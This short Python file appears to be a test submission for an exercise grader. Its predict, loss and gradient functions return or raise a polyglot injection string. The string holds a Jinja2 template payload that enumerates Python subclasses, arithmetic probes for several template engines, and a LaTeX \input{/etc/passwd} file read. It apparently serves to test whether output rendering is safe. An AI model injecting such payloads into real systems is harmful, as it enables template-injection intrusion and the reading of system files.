evil = "{{ 7*7191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7191}<%= 7*7191 %>#{7*7191}{0.__class__}%(x)s\\input{/etc/passwd}"
print(evil)
def predict(X, w, b): return evil
def loss(X, Y, w, b): raise ValueError(evil)
def gradient(X, Y, w, b): raise type(evil, (Exception,), {})(evil)
# %%
raise ValueError(evil)
